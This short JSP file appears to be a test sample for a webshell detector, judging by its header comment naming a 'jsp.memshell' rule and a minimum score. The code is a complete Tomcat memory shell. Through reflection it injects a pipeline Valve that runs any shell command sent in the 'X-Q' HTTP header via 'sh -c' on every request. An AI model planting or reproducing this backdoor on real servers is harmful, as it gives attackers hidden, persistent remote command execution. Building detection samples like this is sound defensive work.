<%-- expect rule=jsp.memshell min=85 --%>
<%@ page import="org.apache.catalina.valves.ValveBase,org.apache.catalina.connector.*,org.apache.catalina.core.StandardContext,java.lang.reflect.Field" %>
<%
    Field rf = request.getClass().getDeclaredField("request");
    rf.setAccessible(true);
    Request inner = (Request) rf.get(request);
    StandardContext sc = (StandardContext) inner.getContext();
    sc.getPipeline().addValve(new ValveBase() {
        public void invoke(Request r, Response s) throws java.io.IOException, javax.servlet.ServletException {
            if (r.getHeader("X-Q") != null) new ProcessBuilder("sh", "-c", r.getHeader("X-Q")).start();
            getNext().invoke(r, s);
        }
    });
%>
